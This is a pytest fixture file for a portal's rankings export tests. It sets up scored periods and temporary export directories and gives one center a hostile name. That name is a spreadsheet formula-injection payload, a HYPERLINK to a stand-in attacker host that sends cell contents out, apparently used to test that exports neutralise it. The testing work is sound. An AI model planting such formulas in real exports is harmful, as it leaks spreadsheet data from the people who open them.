"""Three centers with snapshots (the rankings fixtures), a hostile name, exports in tmp."""

from __future__ import annotations

import pytest

from portal.extensions import db
from portal.rankings import services as rankings

from ..rankings import conftest as ranking_fixtures

standard_version = ranking_fixtures.standard_version
create_period = ranking_fixtures.create_period
period = ranking_fixtures.period
small_period = ranking_fixtures.small_period

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def app_config(app_config, tmp_path):
    return {
        **app_config,
        "EVIDENCE_DIR": str(tmp_path / "evidence"),
        "EXPORTS_DIR": str(tmp_path / "exports"),
        "EXPORTS_REDIS_URL": "",
    }


@pytest.fixture
def scored(small_period, users):
    """The small period computed and published; the third center has a hostile name."""
    small_period["C"].name = HOSTILE
    rankings.recompute_snapshots(small_period["period"], actor=users["admin"])
    rankings.publish(small_period["period"], actor=users["admin"])
    db.session.commit()
    return small_period
